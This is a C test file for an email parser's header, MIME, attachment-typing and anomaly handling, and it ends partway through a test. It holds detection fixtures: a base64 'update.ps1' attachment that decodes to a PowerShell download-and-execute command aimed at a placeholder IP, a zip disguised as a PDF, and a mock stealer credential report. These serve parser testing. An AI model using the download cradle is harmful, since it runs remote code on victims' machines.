/* test_email.c - the message parser on readable mail.
 *
 * Every message is fed whole, byte by byte and split in two at every
 * offset; the JSON, the anomalies and the counts must be identical. Test
 * messages are written with "\n" line ends and fed with CRLF unless a test
 * says otherwise. Attachment hashes were computed independently with
 * sha256sum(1) on the decoded files. With --write-seeds DIR the messages
 * are also written there as fuzz seeds. */
#include <stdlib.h>
#include <string.h>
#include <stdio.h>
#include "email.h"
#include "check.h"

static const char *seed_dir;
static int seed_no;

static char *to_crlf(const char *msg, size_t len, size_t *outlen)
{
	char *o = malloc(len * 2 + 1);
	size_t n = 0;
	for (size_t i = 0; i < len; i++) {
		if (msg[i] == '\n' && (i == 0 || msg[i - 1] != '\r'))
			o[n++] = '\r';
		o[n++] = msg[i];
	}
	o[n] = 0;
	*outlen = n;
	return o;
}

/* mode 0: whole; 1: byte by byte; 2: two pieces split at `at` */
static json_t *feed(const char *m, size_t len, const struct mail_limits *lim, int mode,
                    size_t at, int truncated)
{
	struct email *e = email_new(lim);
	if (mode == 0) {
		email_feed(e, (const uint8_t *)m, len);
	} else if (mode == 1) {
		for (size_t i = 0; i < len; i++)
			email_feed(e, (const uint8_t *)m + i, 1);
	} else {
		email_feed(e, (const uint8_t *)m, at);
		email_feed(e, (const uint8_t *)m + at, len - at);
	}
	email_finish(e, truncated);
	const struct email_counts *c = email_counts(e);
	json_t *r = json_pack("{s:o, s:o, s:{s:I, s:I, s:I, s:I, s:I, s:I, s:I}}",
	                      "email", email_to_json(e),
	                      "anomalies", anomaly_set_to_json(email_anomalies(e)),
	                      "counts", "raw", (json_int_t)c->raw_bytes,
	                      "header", (json_int_t)c->header_bytes,
	                      "body", (json_int_t)c->body_bytes,
	                      "attachment", (json_int_t)c->attachment_bytes,
	                      "parts", (json_int_t)c->parts,
	                      "attachments", (json_int_t)c->attachments,
	                      "urls", (json_int_t)c->urls);
	email_free(e);
	return r;
}

static json_t *parse_raw(const char *m, size_t len, const struct mail_limits *lim, int truncated)
{
	struct mail_limits def;
	if (!lim) {
		mail_limits_default(&def);
		lim = &def;
	}
	if (seed_dir) {
		char path[512];
		snprintf(path, sizeof path, "%s/msg%02d.eml", seed_dir, seed_no++);
		FILE *f = fopen(path, "wb");
		if (f) {
			fwrite(m, 1, len, f);
			fclose(f);
		}
	}
	json_t *whole = feed(m, len, lim, 0, 0, truncated);
	json_t *bytes = feed(m, len, lim, 1, 0, truncated);
	if (!json_equal(whole, bytes)) {
		char *a = json_dumps(whole, JSON_SORT_KEYS), *b = json_dumps(bytes, JSON_SORT_KEYS);
		fprintf(stderr, "byte-by-byte differs\n whole: %s\n bytes: %s\n", a, b);
		free(a);
		free(b);
		CHECK(0);
	}
	json_decref(bytes);
	int split_ok = 1;
	for (size_t k = 1; k < len && split_ok; k++) {
		json_t *sp = feed(m, len, lim, 2, k, truncated);
		if (!json_equal(whole, sp)) {
			char *a = json_dumps(sp, JSON_SORT_KEYS), *b = json_dumps(whole, JSON_SORT_KEYS);
			fprintf(stderr, "split at %zu differs:\n split: %s\n whole: %s\n", k, a, b);
			free(a);
			free(b);
			split_ok = 0;
		}
		json_decref(sp);
	}
	CHECK(split_ok);
	if (getenv("EMAIL_TEST_DUMP")) {
		char *a = json_dumps(whole, JSON_SORT_KEYS | JSON_INDENT(1));
		fprintf(stderr, "%s\n", a);
		free(a);
	}
	return whole;
}

static json_t *parse(const char *msg, const struct mail_limits *lim)
{
	size_t n;
	char *m = to_crlf(msg, strlen(msg), &n);
	json_t *r = parse_raw(m, n, lim, 0);
	free(m);
	return r;
}

static json_t *get(json_t *r, const char *path)
{
	char key[64];
	json_t *o = r;
	while (o && *path) {
		const char *dot = strchr(path, '.');
		size_t kl = dot ? (size_t)(dot - path) : strlen(path);
		if (kl >= sizeof key)
			return NULL;
		memcpy(key, path, kl);
		key[kl] = 0;
		if (key[0] >= '0' && key[0] <= '9')
			o = json_array_get(o, strtoul(key, NULL, 10));
		else
			o = json_object_get(o, key);
		path += kl + (dot ? 1 : 0);
	}
	return o;
}

static const char *s(json_t *r, const char *path)
{
	return json_string_value(get(r, path));
}

static long long i(json_t *r, const char *path)
{
	json_t *v = get(r, path);
	return v ? json_integer_value(v) : -1;
}

static int has_anomaly(json_t *r, const char *name)
{
	json_t *a = json_object_get(r, "anomalies"), *v;
	size_t k;
	json_array_foreach(a, k, v)
		if (!strcmp(json_string_value(v), name))
			return 1;
	return 0;
}

static size_t nanomalies(json_t *r)
{
	return json_array_size(json_object_get(r, "anomalies"));
}

/* ------------------------------------------------------------------ */

static const char msg_headers[] =
	"Return-Path: <Bounce+Alice@Example.COM>\n"
	"Received: from mx2.example.net (mx2.example.net [192.0.2.25])\n"
	"\tby mail.example.org with ESMTPS id 4F1A2B3C\n"
	"\tfor <bob@example.org>; Mon, 4 Mar 2024 09:30:12 +0100\n"
	"Received: from laptop ([10.0.0.5])\n"
	"\tby mx2.example.net; Mon, 4 Mar 2024 09:30:10 +0100\n"
	"Received: from localhost by laptop; Mon, 4 Mar 2024 09:30:01 +0100\n"
	"From: \"M\xc3\xbcller, J\xc3\xbcrgen\" <Juergen.Mueller@Example.DE>\n"
	"Sender: =?UTF-8?B?SsO8cmdlbiBNw7xsbGVy?= <sender@example.de>\n"
	"To: Bob Smith <bob@example.org>, \"Carol (Finance)\" <carol@EXAMPLE.org>,\n"
	" dave@example.org (Dave Jones)\n"
	"Cc: Team: erin@example.org, <frank@example.org>;, undisclosed-recipients:;\n"
	"Reply-To: =?ISO-8859-1?Q?J=FCrgen_M=FCller?= <reply@example.de>\n"
	"Subject: =?ISO-8859-1?Q?R=FCckmeldung_zur?=\n"
	" =?ISO-8859-1?Q?_Bestellung?= Nr. 4711\n"
	"Date: Mon, 4 Mar 2024 09:30:00 +0100\n"
	"Message-ID: <20240304083000.12345@mail.example.de>\n"
	"In-Reply-To: <CAF=abc123@mail.example.org>\n"
	"X-Mailer: Microsoft Outlook 16.0\n"
	"User-Agent: Mozilla/5.0 Thunderbird/115.8.0\n"
	"X-Originating-IP: [203.0.113.77]\n"
	"MIME-Version: 1.0\n"
	"Content-Type: text/plain; charset=utf-8\n"
	"Content-Transfer-Encoding: quoted-printable\n"
	"\n"
	"Hallo Bob,\n"
	"siehe https://portal.example.de/bestellung?id=3D4711 und www.example.com/info=\n"
	"rmation.\n"
	"Gr=C3=BC=C3=9Fe, J=C3=BCrgen\n";

static void test_headers(void)
{
	json_t *r = parse(msg_headers, NULL);
	CHECK_STR(s(r, "email.return_path"), "Bounce+Alice@example.com");
	CHECK_INT(i(r, "email.received_count"), 3);
	CHECK_STR(s(r, "email.received_first"),
	          "from mx2.example.net (mx2.example.net [192.0.2.25])\tby mail.example.org "
	          "with ESMTPS id 4F1A2B3C\tfor <bob@example.org>; Mon, 4 Mar 2024 09:30:12 +0100");
	CHECK_STR(s(r, "email.received_last"), "from localhost by laptop; Mon, 4 Mar 2024 09:30:01 +0100");
	CHECK_STR(s(r, "email.from.address"), "Juergen.Mueller@example.de");
	CHECK_STR(s(r, "email.from.display_name"), "M\xc3\xbcller, J\xc3\xbcrgen");
	CHECK_STR(s(r, "email.sender.display_name"), "J\xc3\xbcrgen M\xc3\xbcller");
	CHECK_STR(s(r, "email.sender.address"), "sender@example.de");
	CHECK_INT(json_array_size(get(r, "email.to")), 3);
	CHECK_STR(s(r, "email.to.0.address"), "bob@example.org");
	CHECK_STR(s(r, "email.to.0.display_name"), "Bob Smith");
	CHECK_STR(s(r, "email.to.1.address"), "carol@example.org");
	CHECK_STR(s(r, "email.to.1.display_name"), "Carol (Finance)");
	CHECK_STR(s(r, "email.to.2.address"), "dave@example.org");
	CHECK_STR(s(r, "email.to.2.display_name"), "Dave Jones");
	CHECK_INT(json_array_size(get(r, "email.cc")), 2); /* group members; empty group */
	CHECK_STR(s(r, "email.cc.0.address"), "erin@example.org");
	CHECK_STR(s(r, "email.cc.1.address"), "frank@example.org");
	CHECK(get(r, "email.cc.1.display_name") == NULL);
	CHECK_STR(s(r, "email.reply_to.0.display_name"), "J\xc3\xbcrgen M\xc3\xbcller");
	CHECK_STR(s(r, "email.subject"), "R\xc3\xbc" "ckmeldung zur Bestellung Nr. 4711");
	CHECK_STR(s(r, "email.date"), "Mon, 4 Mar 2024 09:30:00 +0100");
	CHECK_STR(s(r, "email.message_id"), "<20240304083000.12345@mail.example.de>");
	CHECK_STR(s(r, "email.in_reply_to"), "<CAF=abc123@mail.example.org>");
	CHECK_STR(s(r, "email.x_mailer"), "Microsoft Outlook 16.0");
	CHECK_STR(s(r, "email.user_agent"), "Mozilla/5.0 Thunderbird/115.8.0");
	CHECK_STR(s(r, "email.x_originating_ip"), "203.0.113.77");
	CHECK_INT(json_array_size(get(r, "email.attachments")), 0);
	CHECK_INT(i(r, "email.part_count"), 1);
	CHECK_INT(i(r, "email.url_count"), 2); /* https://..., www.example.com/information */
	CHECK_INT(i(r, "email.body_bytes"), 132);
	CHECK_INT(i(r, "counts.raw"), i(r, "email.header_bytes") + i(r, "email.body_bytes"));
	CHECK_INT(nanomalies(r), 0);
	json_decref(r);

	/* The same message with bare LF line ends gives the same fields. */
	json_t *lf = parse_raw(msg_headers, strlen(msg_headers), NULL, 0);
	CHECK_STR(s(lf, "email.subject"), "R\xc3\xbc" "ckmeldung zur Bestellung Nr. 4711");
	CHECK_INT(i(lf, "email.url_count"), 2);
	CHECK_INT(i(lf, "email.received_count"), 3);
	json_decref(lf);
}

/* multipart/mixed holding multipart/alternative, a zip named report.pdf
 * and a PE named invoice.exe. */
static const char msg_nested[] =
	"From: Alice Example <alice@example.com>\n"
	"To: bob@example.org\n"
	"Subject: =?UTF-8?B?0KHQstC+0LTQutCwINC30LAg0L3QtdC00LXQu9GO?=\n"
	"Date: Tue, 5 Mar 2024 11:02:17 +0000\n"
	"MIME-Version: 1.0\n"
	"Content-Type: multipart/mixed;\n"
	"\tboundary=\"----=_Part_0_1234.5678\"\n"
	"\n"
	"This is a multi-part message in MIME format.\n"
	"\n"
	"------=_Part_0_1234.5678\n"
	"Content-Type: multipart/alternative; boundary=\"alt-b\"\n"
	"\n"
	"--alt-b\n"
	"Content-Type: text/plain; charset=us-ascii\n"
	"\n"
	"See the report at http://intranet.example.com/q1 (mirror: ftp://files.example.com/pub).\n"
	"\n"
	"--alt-b\n"
	"Content-Type: text/html; charset=us-ascii\n"
	"Content-Transfer-Encoding: quoted-printable\n"
	"\n"
	"<html><body><a href=3D\"http://intranet.example.com/q1\">report</a> www.example=\n"
	".com</body></html>\n"
	"--alt-b--\n"
	"\n"
	"------=_Part_0_1234.5678\n"
	"Content-Type: application/pdf; name=\"report.pdf\"\n"
	"Content-Disposition: attachment; filename=\"report.pdf\"\n"
	"Content-Transfer-Encoding: base64\n"
	"\n"
	"UEsDBBQAAAAIAMBLYVhYfNqoPQAAADwAAAAKAAAAcGF5bG9hZC5qcytLLFIots1LLVdwTC7JLEuN\n"
	"8E/KSk0u0VAKD04uyiwo0QvOSM3JUdK0LtYLKs3TUEpOzEnWS61IBYpwAQBQSwECFAMUAAAACADA\n"
	"S2FYWHzaqD0AAAA8AAAACgAAAAAAAAAAAAAAgAEAAAAAcGF5bG9hZC5qc1BLBQYAAAAAAQABADgA\n"
	"AABlAAAAAAA=\n"
	"------=_Part_0_1234.5678\n"
	"Content-Type: application/x-msdownload\n"
	"Content-Disposition: attachment; filename=invoice.exe\n"
	"Content-Transfer-Encoding: base64\n"
	"\n"
	"TVqQAAMAAAAEAAAA//8AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n"
	"AAAAQAAAAFBFAABMAQEAAAAAXwAAAAAAAAAA4AACAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n"
	"AAAAAAAAAAAAAAAAAAA=\n"
	"------=_Part_0_1234.5678--\n"
	"\n"
	"epilogue text that is not a part\n";

static void test_nested(void)
{
	json_t *r = parse(msg_nested, NULL);
	CHECK_STR(s(r, "email.subject"),
	          "\xd0\xa1\xd0\xb2\xd0\xbe\xd0\xb4\xd0\xba\xd0\xb0 \xd0\xb7\xd0\xb0 "
	          "\xd0\xbd\xd0\xb5\xd0\xb4\xd0\xb5\xd0\xbb\xd1\x8e");
	CHECK_STR(s(r, "email.from.display_name"), "Alice Example");
	CHECK_INT(i(r, "email.received_count"), 0);
	CHECK(get(r, "email.received_first") == NULL && get(r, "email.received_last") == NULL);
	CHECK_INT(i(r, "email.part_count"), 4);
	CHECK_INT(i(r, "email.url_count"), 4);
	CHECK_INT(json_array_size(get(r, "email.attachments")), 2);
	CHECK_STR(s(r, "email.attachments.0.filename"), "report.pdf");
	CHECK_STR(s(r, "email.attachments.0.content_type"), "application/pdf");
	CHECK_STR(s(r, "email.attachments.0.magic_type"), "zip");
	CHECK(json_is_true(get(r, "email.attachments.0.extension_mismatch")));
	CHECK_INT(i(r, "email.attachments.0.size"), 179);
	CHECK_STR(s(r, "email.attachments.0.sha256"),
	          "451b6f667a6ebe05c6b716ce98402a0ce631750e75cf9dbb48659fb39ef31b6b");
	CHECK_STR(s(r, "email.attachments.1.filename"), "invoice.exe");
	CHECK_STR(s(r, "email.attachments.1.magic_type"), "exe");
	CHECK(json_is_false(get(r, "email.attachments.1.extension_mismatch")));
	CHECK_INT(i(r, "email.attachments.1.size"), 128);
	CHECK_STR(s(r, "email.attachments.1.sha256"),
	          "bd97d29d034a51fc3654a97635b9509047b17be6e8fc21faaa2b7af1b540a294");
	CHECK_INT(i(r, "email.attachment_bytes"), 179 + 128);
	CHECK_INT(i(r, "counts.attachments"), 2);
	CHECK_INT(nanomalies(r), 0);
	json_decref(r);
}

/* RFC 2231 continuations, an RFC 2047 filename, name= fallback, a script. */
static const char msg_files[] =
	"From: =?KOI8-R?B?8NLJzcXS?= <demo@example.ru>\n"
	"To: \"=?UTF-8?Q?Bj=C3=B6rn?=\" <bjorn@example.se>\n"
	"Subject: files\n"
	"Content-Type: multipart/mixed; boundary=b1\n"
	"\n"
	"--b1\n"
	"Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document\n"
	"Content-Disposition: attachment;\n"
	" filename*0*=UTF-8''Jahres%C3%BCbersicht;\n"
	" filename*1*=%202024;\n"
	" filename*2=\".docx\"\n"
	"Content-Transfer-Encoding: base64\n"
	"\n"
	"UEsDBBQAAAAIAMBLYVjmuHRrXAAAAGIAAAATAAAAW0NvbnRlbnRfVHlwZXNdLnhtbBXMTQqAIBBA\n"
	"4auE+xxr0SJKL9EFRKYfylGcIer22fLxwZvcE6/mxsJHoll12ihnp+XNyE0V4lntInkE4LBj9KxT\n"
	"RqqyphK91CwbZB9OvyH0xgwQEgmStPI/FNgPUEsDBBQAAAAIAMBLYVjdWoYNDwAAAA0AAAARAAAA\n"
	"d29yZC9kb2N1bWVudC54bWyzKbdKyU8uzU3NK9G3AwBQSwECFAMUAAAACADAS2FY5rh0a1wAAABi\n"
	"AAAAEwAAAAAAAAAAAAAAgAEAAAAAW0NvbnRlbnRfVHlwZXNdLnhtbFBLAQIUAxQAAAAIAMBLYVjd\n"
	"WoYNDwAAAA0AAAARAAAAAAAAAAAAAACAAY0AAAB3b3JkL2RvY3VtZW50LnhtbFBLBQYAAAAAAgAC\n"
	"AIAAAADLAAAAAAA=\n"
	"--b1\n"
	"Content-Type: application/x-7z-compressed\n"
	"Content-Disposition: attachment; filename=\"=?UTF-8?Q?Archiv_f=C3=BCr_Bob.7z?=\"\n"
	"Content-Transfer-Encoding: base64\n"
	"\n"
	"N3q8ryccAASNm9UPMAAAAAAAAAAhAAAAAAAAABF8Si8HCAkKCwwNDg8QERITFBUWFxgZGhscHR4f\n"
	"ICEiIyQlJic=\n"
	"--b1\n"
	"Content-Type: application/octet-stream; name=\"data.bin\"\n"
	"Content-Transfer-Encoding: base64\n"
	"\n"
	"wZPl9qd+KCzQjxaK2mBjvC8Hp/oSGWynRbocrM0NSFd3qVML8g/CRQx40t3BkPs8MtTkuXqWHbuj\n"
	"UsxoZ4Re/+KVpuFrZLkMiYPUo4RDT0wgDlSsZX6syrQ4RAPMbN93ouyAw4uqTLsvMKGx6Hhyj7Kt\n"
	"ouUr0mjxuQgg0EKsH7L5bYc8Vim3s6JLQOrfhFVnL/CKb06nNa2dBGc5C+bUfxI5GA9VB2R2PPEz\n"
	"fDKoP+RmVULIm05FBddRVM9aNsxSdP+YJo1cYc4=\n"
	"--b1\n"
	"Content-Type: text/plain; charset=us-ascii\n"
	"Content-Disposition: attachment; filename=\"update.ps1\"\n"
	"Content-Transfer-Encoding: base64\n"
	"\n"
	"JEVycm9yQWN0aW9uUHJlZmVyZW5jZSA9ICJTaWxlbnRseUNvbnRpbnVlIg0KJHdjID0gTmV3LU9i\n"
	"amVjdCBOZXQuV2ViQ2xpZW50DQokcyA9ICR3Yy5Eb3dubG9hZFN0cmluZygiaHR0cDovLzE5OC41\n"
	"MS4xMDAuNy9hLnR4dCIpDQpJbnZva2UtRXhwcmVzc2lvbiAkcw0K\n"
	"--b1--\n";

static void test_files(void)
{
	json_t *r = parse(msg_files, NULL);
	CHECK_STR(s(r, "email.from.display_name"), "\xd0\x9f\xd1\x80\xd0\xb8\xd0\xbc\xd0\xb5\xd1\x80");
	CHECK_STR(s(r, "email.to.0.display_name"), "Bj\xc3\xb6rn");
	CHECK_INT(json_array_size(get(r, "email.attachments")), 4);
	CHECK_STR(s(r, "email.attachments.0.filename"), "Jahres\xc3\xbc" "bersicht 2024.docx");
	CHECK_STR(s(r, "email.attachments.0.magic_type"), "ooxml");
	CHECK(json_is_false(get(r, "email.attachments.0.extension_mismatch")));
	CHECK_INT(i(r, "email.attachments.0.size"), 353);
	CHECK_STR(s(r, "email.attachments.0.sha256"),
	          "67ee8fe22174636d0676a245628b2ae18499cfe961ed7ad6204052fe7f2a12fe");
	CHECK_STR(s(r, "email.attachments.1.filename"), "Archiv f\xc3\xbcr Bob.7z");
	CHECK_STR(s(r, "email.attachments.1.magic_type"), "7z");
	CHECK(json_is_false(get(r, "email.attachments.1.extension_mismatch")));
	CHECK_STR(s(r, "email.attachments.1.sha256"),
	          "dffb5aad6abd8920f9f326a5d196c5d1ae68caf66f17ab6113bf865c9b87aa39");
	CHECK_STR(s(r, "email.attachments.2.filename"), "data.bin");
	CHECK_STR(s(r, "email.attachments.2.magic_type"), "unknown");
	CHECK(json_is_false(get(r, "email.attachments.2.extension_mismatch")));
	CHECK_INT(i(r, "email.attachments.2.size"), 200);
	CHECK_STR(s(r, "email.attachments.2.sha256"),
	          "2a8d55ce366a193511dc59294abcaf0c98123342ec337845cd81cf029492f0aa");
	CHECK_STR(s(r, "email.attachments.3.filename"), "update.ps1");
	CHECK_STR(s(r, "email.attachments.3.content_type"), "text/plain");
	CHECK_STR(s(r, "email.attachments.3.magic_type"), "script");
	CHECK_STR(s(r, "email.attachments.3.script_kind"), "powershell");
	CHECK(json_is_false(get(r, "email.attachments.3.extension_mismatch")));
	CHECK_STR(s(r, "email.attachments.3.sha256"),
	          "dca09a6a8fdebd45fd95a56e3e24020fcfdec8846868cb4dce3b936653f6f0af");
	CHECK_INT(i(r, "email.url_count"), 0); /* URLs inside attachments are not counted */
	CHECK_INT(nanomalies(r), 0);
	json_decref(r);
}

/* ------------------------------ malformed ------------------------------ */

static void test_missing_close(void)
{
	json_t *r = parse(
		"Subject: cut\n"
		"Content-Type: multipart/mixed; boundary=\"xyz\"\n"
		"\n"
		"--xyz\n"
		"Content-Type: text/plain\n"
		"\n"
		"first http://a.example/\n"
		"--xyz\n"
		"Content-Type: application/octet-stream; name=a.txt\n"
		"\n"
		"hello\n", NULL);
	CHECK(has_anomaly(r, "bad_mime_boundary"));
	CHECK_INT(i(r, "email.part_count"), 2);
	CHECK_INT(i(r, "email.url_count"), 1);
	CHECK_STR(s(r, "email.attachments.0.magic_type"), "text");
	CHECK_INT(i(r, "email.attachments.0.size"), 7); /* "hello\r\n": no boundary took the CRLF */
	json_decref(r);

	/* The same message cut by the transport: truncated, not a bad boundary. */
	const char *m = "Subject: cut\r\nContent-Type: multipart/mixed; boundary=\"xyz\"\r\n\r\n--xyz\r\n\r\nabc";
	r = parse_raw(m, strlen(m), NULL, 1);
	CHECK(has_anomaly(r, "truncated_message"));
	CHECK(!has_anomaly(r, "bad_mime_boundary"));
	CHECK_INT(i(r, "email.part_count"), 1);
	json_decref(r);
}

static void test_boundary_never_seen(void)
{
	json_t *r = parse(
		"Subject: lost\n"
		"Content-Type: multipart/mixed; boundary=\"never-used\"\n"
		"\n"
		"--some-other-boundary\n"
		"Content-Type: text/plain\n"
		"\n"
		"text\n", NULL);
	CHECK(has_anomaly(r, "bad_mime_boundary"));
	CHECK_INT(i(r, "email.part_count"), 0);
	json_decref(r);

	/* header only (IMAP BODY[HEADER]): nothing to close, no anomaly */
	r = parse("Subject: head\nContent-Type: multipart/mixed; boundary=\"h\"\n\n", NULL);
	CHECK_INT(nanomalies(r), 0);
	CHECK_INT(i(r, "email.part_count"), 0);
	CHECK_INT(i(r, "email.body_bytes"), 0);
	json_decref(r);

	/* multipart without a boundary parameter: opaque, still described */
	r = parse("Content-Type: multipart/mixed\n\n--x\n\nbody\n", NULL);
	CHECK(has_anomaly(r, "bad_mime_boundary"));
	CHECK_INT(i(r, "email.part_count"), 1);
	CHECK_STR(s(r, "email.attachments.0.content_type"), "multipart/mixed");
	json_decref(r);
}

static void test_bad_encodings(void)
{
	json_t *r = parse(
		"Subject: =?UTF-8?B?!!!notbase64?= and =?x-unknown-charset?Q?caf=E9?=\n"
		"Content-Type: multipart/mixed; boundary=\"q\"\n"
		"\n"
		"--q\n"
		"Content-Type: application/octet-stream; name=\"blob.dat\"\n"
		"Content-Transfer-Encoding: base64\n"
		"\n"
		"aGVs*bG8g\n"
		"d29y#bGQ=\n"
		"--q\n"
		"Content-Type: text/plain\n"
		"Content-Transfer-Encoding: quoted-printable\n"
		"\n"
		"price =ZZ 10 and =4 then www.example.org\n"
		"--q--\n", NULL);
	CHECK(has_anomaly(r, "bad_base64"));
	CHECK(has_anomaly(r, "bad_quoted_printable"));
	CHECK(has_anomaly(r, "bad_encoded_word"));
	/* the invalid characters are skipped and decoding goes on */
	CHECK_INT(i(r, "email.attachments.0.size"), 11);
	CHECK_STR(s(r, "email.attachments.0.sha256"), /* sha256("hello world") */
	          "b94d27b9934d3e08a52e52d7da7dabfac484efe37a5380ee9088f7ace2efcde9");
	CHECK_INT(i(r, "email.url_count"), 1);
	CHECK_STR(s(r, "email.subject"),
	          "=?UTF-8?B?!!!notbase64?= and caf\xef\xbf\xbd");
	json_decref(r);
}

static void test_garbage_headers(void)
{
	static const char m[] =
		"From someone@example.com Mon Mar  4 09:30:00 2024\n"
		"\x01\x02 junk line without a colon \xff\n"
		": empty name\n"
		"X-\xc3(broken: \xe2\x82 value\n"
		"Subject: after \xff\xfe garbage\n"
		"To: undisclosed-recipients, <>, <@relay.example:route@Example.NET>\n"
		"From: \"unterminated <x@y.example>\n"
		"Return-Path: <>\n"
		"Received: by mx.example.org; Tue, 5 Mar 2024 10:00:00 +0000\n"
		"\n"
		"body\n";
	json_t *r = parse(m, NULL);
	CHECK_STR(s(r, "email.subject"), "after \xc3\xbf\xc3\xbe garbage"); /* Windows-1252 */
	CHECK(has_anomaly(r, "invalid_utf8"));
	CHECK(has_anomaly(r, "bad_address"));
	/* a bare phrase and an empty <> are not recipients */
	CHECK_INT(json_array_size(get(r, "email.to")), 1);
	CHECK_STR(s(r, "email.to.0.address"), "route@example.net");
	CHECK_STR(s(r, "email.return_path"), "");
	/* lenient: the address is still found inside the unterminated quote */
	CHECK_STR(s(r, "email.from.address"), "x@y.example");
	CHECK_INT(i(r, "email.part_count"), 1);
	CHECK_INT(i(r, "email.received_count"), 1);
	CHECK_STR(s(r, "email.received_first"), "by mx.example.org; Tue, 5 Mar 2024 10:00:00 +0000");
	CHECK_STR(s(r, "email.received_last"), "by mx.example.org; Tue, 5 Mar 2024 10:00:00 +0000");
	json_decref(r);
}

static void test_nul_bytes(void)
{
	static const char m[] =
		"Subject: nul\0inside\r\n"
		"Content-Type: multipart/mixed; boundary=n\r\n"
		"\r\n"
		"--n\r\n"
		"Content-Type: application/octet-stream\r\n"
		"\r\n"
		"\0\0\0\0binary\0\r\n"
		"--n--\r\n";
	json_t *r = parse_raw(m, sizeof m - 1, NULL, 0);
	CHECK_STR(s(r, "email.subject"), "nul\xef\xbf\xbdinside");
	CHECK(has_anomaly(r, "invalid_utf8"));
	CHECK_INT(i(r, "email.attachments.0.size"), 11);
	CHECK_STR(s(r, "email.attachments.0.magic_type"), "unknown");
	CHECK(get(r, "email.attachments.0.filename") == NULL);
	json_decref(r);
}

/* The labels of a stealer's host report, as Agent Tesla mails it: HTML in
 * quoted-printable with soft breaks inside labels. Values are never kept. */
static void test_report_labels(void)
{
	static const char m[] =
		"Subject: PW_jdoe/WS-0042\n"
		"MIME-Version: 1.0\n"
		"Content-Type: multipart/mixed; boundary=r\n"
		"\n"
		"--r\n"
		"Content-Type: text/html; charset=utf-8\n"
		"Content-Transfer-Encoding: quoted-printable\n"
		"\n"
		"Time: 06/04/2024 14:27:19<br>User Name: jdoe<br>Computer Name: W=\n"
		"S-0042<br>OSFullName: Microsoft Windows 10 Pro<br>IP Ad=\n"
		"dress: 198.51.100.7<hr>Host: https://mail.example<br>Usernam=\n"
		"e: jdoe<br>PASSWORD: hunter2-not-real<br>\n"
		"--r\n"
		"Content-Type: application/octet-stream\n"
		"Content-Disposition: attachment; filename=x.bin\n"
		"\n"
		"PC Name: inside an attachment, not counted\n"
		"--r--\n";
	json_t *r = parse(m, NULL);
	json_t *l = get(r, "email.report_labels");
	CHECK_INT(json_array_size(l), 5);
	CHECK_STR(json_string_value(json_array_get(l, 0)), "computer name");
	CHECK_STR(json_string_value(json_array_get(l, 1)), "user name");
	CHECK_STR(json_string_value(json_array_get(l, 2)), "osfullname");
	CHECK_STR(json_string_value(json_array_get(l, 3)), "ip address");
	CHECK_STR(json_string_value(json_array_get(l, 4)), "password");
	char *txt = json_dumps(r, 0);
	CHECK(txt && !strstr(txt, "hunter2") && !strstr(txt, "WS-0042<"));
	free(txt);
	json_decref(r);

	/* labels inside words, or without their colon, do not count */
	r = parse("Subject: hi\n\nmy xpassword: is not a label, nor Computer Name\n", NULL);
	CHECK(get(r, "email.report_labels") == NULL);
	json_decref(r);
}

static void test_header_bombs(void)
{
	struct mail_limits lim;
	mail_limits_default(&lim);
	lim.header_count_max = 5;
	char buf[4096];
	size_t n = 0;
	for (int k = 0; k < 10; k++)
		n += (size_t)snprintf(buf + n, sizeof buf - n, "X-Spam-%d: %d\n", k, k);
	n += (size_t)snprintf(buf + n, sizeof buf - n, "Subject: too late\n\nbody\n");
	json_t *r = parse(buf, &lim);
	CHECK(has_anomaly(r, "too_many_headers"));
	CHECK(get(r, "email.subject") == NULL);
	CHECK_INT(i(r, "email.part_count"), 1);
	json_decref(r);

	mail_limits_default(&lim);
	lim.header_bytes_max = 200;
	n = 0;
	for (int k = 0; k < 20; k++)
		n += (size_t)snprintf(buf + n, sizeof buf - n, "X-Filler-%02d: aaaaaaaaaaaaaaaaaaaa\n", k);
	n += (size_t)snprintf(buf + n, sizeof buf - n, "Subject: hidden\n\nbody\n");
	r = parse(buf, &lim);
	CHECK(has_anomaly(r, "header_too_long"));
	CHECK(get(r, "email.subject") == NULL);
	CHECK_INT(i(r, "email.header_bytes"), 20 * 35 + 17 + 2);
	json_decref(r);

	/* one 3000-byte line with line_max 300: cut, the rest skipped */
	mail_limits_default(&lim);
	lim.line_max = 300;
	n = (size_t)snprintf(buf, sizeof buf, "Subject: ");
	memset(buf + n, 'A', 3000);
	n += 3000;
	n += (size_t)snprintf(buf + n, sizeof buf - n, "\nTo: x@example.com\n\nbody\n");
	r = parse(buf, &lim);
	CHECK(has_anomaly(r, "line_too_long"));
	CHECK_INT(strlen(s(r, "email.subject")), 300 - 9);
	CHECK_STR(s(r, "email.to.0.address"), "x@example.com");
	json_decref(r);

	/* recipients_max: the first ones are kept, per list */
	mail_limits_default(&lim);
	lim.recipients_max = 2;
	r = parse("To: a@x.example, b@x.example, c@x.example\nCc: d@x.example\n\n", &lim);
	CHECK(has_anomaly(r, "too_many_recipients"));
	CHECK_INT(json_array_size(get(r, "email.to")), 2);
	CHECK_STR(s(r, "email.to.1.address"), "b@x.example");
	CHECK_INT(json_array_size(get(r, "email.cc")), 1);
	json_decref(r);

	/* field_max cuts stored strings on a character boundary */
	mail_limits_default(&lim);
	lim.field_max = 16;
	r = parse("Subject: \xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\n\n", &lim);
	CHECK_STR(s(r, "email.subject"), "\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4");
	json_decref(r);
}

static void test_depth_and_parts(void)
{
	struct mail_limits lim;
	mail_limits_default(&lim);
	lim.mime_depth_max = 2;
	static const char deep[] =
		"Content-Type: multipart/mixed; boundary=d1\n\n"
		"--d1\n"
		"Content-Type: multipart/mixed; boundary=d2\n\n"
		"--d2\n"
		"Content-Type: multipart/mixed; boundary=d3\n\n"
		"--d3\n"
		"Content-Type: text/plain\n\n"
		"deep\n"
		"--d3--\n"
		"--d2--\n"
		"--d1\n"
		"Content-Type: text/plain\n\n"
		"shallow http://x.example\n"
		"--d1--\n";
	json_t *r = parse(deep, &lim);
	CHECK(has_anomaly(r, "mime_too_deep"));
	CHECK(!has_anomaly(r, "bad_mime_boundary"));
	CHECK_INT(i(r, "email.part_count"), 2); /* the opaque d3 multipart + the shallow text */
